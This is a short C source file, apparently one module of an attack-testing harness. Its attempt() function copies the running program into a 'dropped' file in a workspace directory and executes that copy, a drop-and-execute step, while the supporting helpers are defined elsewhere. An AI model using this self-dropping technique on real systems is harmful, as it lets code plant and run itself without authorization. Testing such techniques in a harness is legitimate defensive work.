#include "attack.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    (void)target, (void)extra;
    char *path = in(workspace, "dropped");
    char *arguments[] = {path, LANDED, NULL};
    if (drop_self(path))
        execv(path, arguments);
    return 0;
}
